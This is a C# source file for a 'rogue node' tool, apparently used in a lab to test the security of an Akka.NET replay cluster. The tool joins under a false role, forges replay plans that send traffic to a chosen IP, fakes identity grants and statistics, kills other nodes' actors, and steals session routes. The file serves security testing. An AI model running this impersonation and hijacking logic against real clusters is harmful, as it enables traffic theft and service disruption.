using System.Globalization;
using Akka.Actor;
using Akka.Cluster;
using ReplayCluster.Cluster;
using ReplayCluster.Configuration;
using ReplayCluster.Plans;
using ReplayCluster.Protocol;
using ReplayCluster.Rogue;
using ReplayCluster.Statistics;

// replaycluster-rogue --hostname IP --port N --seed HOST:PORT --role ROLE --steal-to IP --seconds N [--config FILE]... [--set PATH=VALUE]...
// Joins the cluster as ROLE (the node configuration of an intercept, so whatever the lab passes to every node
// applies, TLS included), then once a second sends every member what only another role may send.
var options = RogueOptions.Parse(args);
var node = NodeConfigLoader.Load(NodeRoles.Intercept, new NodeConfigOverrides
{
    Hostname = options.Hostname,
    Port = options.Port,
    Seeds = [options.Seed],
    ConfigFiles = options.ConfigFiles,
    Sets = [.. options.Sets, $"akka.cluster.roles = [{options.Role}]"],
});

// With cluster TLS on, the certificate it is given (a valid one, of the role it pretends to be) travels in Akka's
// TLS setup as it does for the nodes.
var tls = ClusterTransportSecurity.CreateSetup(node.Settings, new CertifiedPeers(), TimeProvider.System);
using var system = tls is null
    ? ActorSystem.Create(node.Settings.SystemName, node.Config)
    : ActorSystem.Create(node.Settings.SystemName, BootstrapSetup.Create().WithConfig(node.Config).And(tls));
var cluster = Akka.Cluster.Cluster.Get(system);
var up = new TaskCompletionSource();
cluster.RegisterOnMemberUp(() => up.TrySetResult());
if (!up.Task.Wait(TimeSpan.FromSeconds(60)))
{
    Console.WriteLine("rogue: never joined");
    return 2;
}

Console.WriteLine($"rogue: joined as {options.Role} at {cluster.SelfAddress}");
var thief = system.ActorOf(Props.Create(() => new RouteThief()), ActorNames.ReplyRouter);
var until = DateTime.UtcNow + TimeSpan.FromSeconds(options.Seconds);
for (var round = 1; DateTime.UtcNow < until; round++)
{
    Attack(system, cluster, options, thief);
    Console.WriteLine($"rogue: attack round {round.ToString(CultureInfo.InvariantCulture)} sent");
    Thread.Sleep(1000);
}

Console.WriteLine("rogue: done");
cluster.Leave(cluster.SelfAddress);
Thread.Sleep(2000);
return 0;

static void Attack(ActorSystem system, Akka.Cluster.Cluster cluster, RogueOptions options, IActorRef thief)
{
    var provider = ((ExtendedActorSystem)system).Provider;
    var steal = new ReplayPlan { Targets = [$"80-{options.StealTo}:80"], Copies = 50, FakeClientRange = "8.8.0.0/16" };
    foreach (var member in cluster.State.Members.Where(m => m.Address != cluster.SelfAddress))
    {
        // Both ways a peer reaches an actor: a selection by path, and a ref made from the path (no Identify round trip).
        void Send(string name, object message, IActorRef? sender = null)
        {
            var path = new RootActorPath(member.Address) / "user" / name;
            system.ActorSelection(path).Tell(message, sender ?? thief);
            provider.ResolveActorRef(path.ToString()).Tell(message, sender ?? thief);
        }

        if (member.HasRole(NodeRoles.Capture))
        {
            Send("plan-follower", new ReplayPlanAssigned(1L << 40, steal, null));
            Send("plan-follower", new ReplayPlanAssigned(long.MaxValue, steal, null));
            Send("identity-lease", new IdentitySliceGranted("8.8.8.0/24"));
            Send("identity-lease", new IdentitySliceGranted("10.200.255.0/24"));
            foreach (var victim in new[] { "plan-follower", "identity-lease", "route-announcer", "statistics-reporter", $"{ActorNames.Sessions}-0" })
            {
                Send(victim, PoisonPill.Instance);
                Send(victim, Kill.Instance);
            }
        }

        if (member.HasRole(NodeRoles.Coordinator))
        {
            Send(ActorNames.ReplayPlan, new SubscribeReplayPlan(1L << 40, steal));
            for (var i = 0; i < 8; i++)
            {
                Send(ActorNames.IdentitySlices, new RequestIdentitySlice(null), system.DeadLetters);
            }

            Send(ActorNames.Statistics, new NodeStatisticsReport(NodeRoles.Capture, DateTimeOffset.UtcNow.ToUnixTimeMilliseconds(),
                new Dictionary<string, long> { ["requests_captured"] = 1_000_000_000, ["requests_lost"] = 1_000_000_000 }));
            foreach (var victim in new[] { ActorNames.ReplayPlan, ActorNames.IdentitySlices, ActorNames.Statistics })
            {
                Send(victim, PoisonPill.Instance);
                Send(victim, Kill.Instance);
            }
        }

        if (member.HasRole(NodeRoles.Intercept) && !member.HasRole(options.Role))
        {
            Send(ActorNames.ReplyRouter, PoisonPill.Instance);
            Send(ActorNames.ReplyRouter, Kill.Instance);
        }
    }
}

namespace ReplayCluster.Rogue
{
    /// <summary>
    /// Named like an intercept's reply router, so capture nodes send it their route claims (it has the intercept
    /// role); it claims every one of those sessions again, for itself, at every real intercept.
    /// </summary>
    internal sealed class RouteThief : ReceiveActor
    {
        public RouteThief()
        {
            var cluster = Akka.Cluster.Cluster.Get(Context.System);
            Receive<RouteClaims>(claims =>
            {
                if (claims.Claimed.Count == 0)
                {
                    return;
                }

                foreach (var intercept in cluster.State.Members.Where(m => m.HasRole(NodeRoles.Intercept) && m.Address != cluster.SelfAddress))
                {
                    Context.ActorSelection(new RootActorPath(intercept.Address) / "user" / ActorNames.ReplyRouter)
                        .Tell(new RouteClaims(Self, [.. claims.Claimed], []));
                }
            });
            ReceiveAny(_ => { });
        }
    }

    internal sealed record RogueOptions(string Hostname, string Port, string Seed, string Role, string StealTo, int Seconds, IReadOnlyList<string> Sets,
        IReadOnlyList<string> ConfigFiles)
    {
        public static RogueOptions Parse(string[] args)
        {
            var values = new Dictionary<string, string>(StringComparer.Ordinal);
            var sets = new List<string>();
            var configFiles = new List<string>();
            for (var i = 0; i + 1 < args.Length; i += 2)
            {
                if (args[i] == "--set")
                {
                    sets.Add(args[i + 1]);
                }
                else if (args[i] == "--config")
                {
                    configFiles.Add(args[i + 1]);
                }
                else
                {
                    values[args[i]] = args[i + 1];
                }
            }

            string Value(string name) => values.TryGetValue(name, out var value) ? value : throw new ArgumentException($"{name} is required");
            return new RogueOptions(Value("--hostname"), Value("--port"), Value("--seed"), Value("--role"), Value("--steal-to"),
                int.Parse(Value("--seconds"), CultureInfo.InvariantCulture), sets, configFiles);
        }
    }
}
